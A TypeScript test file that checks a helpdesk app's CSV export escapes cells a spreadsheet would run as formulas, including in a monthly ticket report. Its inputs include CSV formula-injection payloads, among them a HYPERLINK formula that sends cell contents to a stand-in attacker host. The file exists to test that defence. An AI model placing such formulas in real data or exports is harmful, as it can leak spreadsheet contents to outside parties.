import { describe, expect, it } from 'vitest';
import { as } from '../../../../test-support/api.js';
import { startTestApp } from '../../../../test-support/test-app.js';
import { csvField } from './tickets-csv.js';

describe('a CSV cell a spreadsheet would read as a formula', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"")"`,
    ],
    ['=1+1', "'=1+1"],
    ['+62 812 3456', "'+62 812 3456"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('%j is written as text, prefixed with a quote', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('leaves ordinary text, numbers and empty cells as they were', () => {
    expect(csvField('Tidak bisa login, mohon dibantu')).toBe('"Tidak bisa login, mohon dibantu"');
    expect(csvField('PYK-2026-000001')).toBe('PYK-2026-000001');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(8)).toBe('8');
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
  });
});

describe('the monthly CSV', () => {
  it('writes a subject typed as a formula as text', async () => {
    const t = await startTestApp('sqlite');
    try {
      t.clock.set(new Date('2026-04-06T02:00:00Z'));
      const helpdesk = as(t, await t.login('helpdesk@demo.test'));
      const subject = '=HYPERLINK("http://evil.example","Klik di sini")';
      const created = await helpdesk.post('/api/tickets', {
        channel: 'phone',
        subject,
        purpose: 'Menanyakan aktivasi akun penyedia',
        description: 'Penelepon belum menerima email aktivasi akun SPSE setelah verifikasi.',
        reporter: { name: 'Bapak Yusuf', phone: '0812 7788 9900', organization: 'CV Lembah Harau' },
      });
      expect(created.statusCode, created.body).toBe(201);
      t.clock.set(new Date('2026-05-04T02:00:00Z'));
      const kepala = as(t, await t.login('kepala@demo.test'));
      const res = await kepala.get(
        '/api/units/lpse-kota-payakumbuh/reports/monthly?month=2026-04&format=csv',
      );
      expect(res.statusCode, res.body).toBe(200);
      const line = res.body.split('\r\n').find((l) => l.startsWith(created.json().ticket.code));
      expect(line).toMatch(/,"'=HYPERLINK\(""http:\/\/evil\.example"",""Klik di sini""\)"$/);
    } finally {
      await t.close();
    }
  });
});
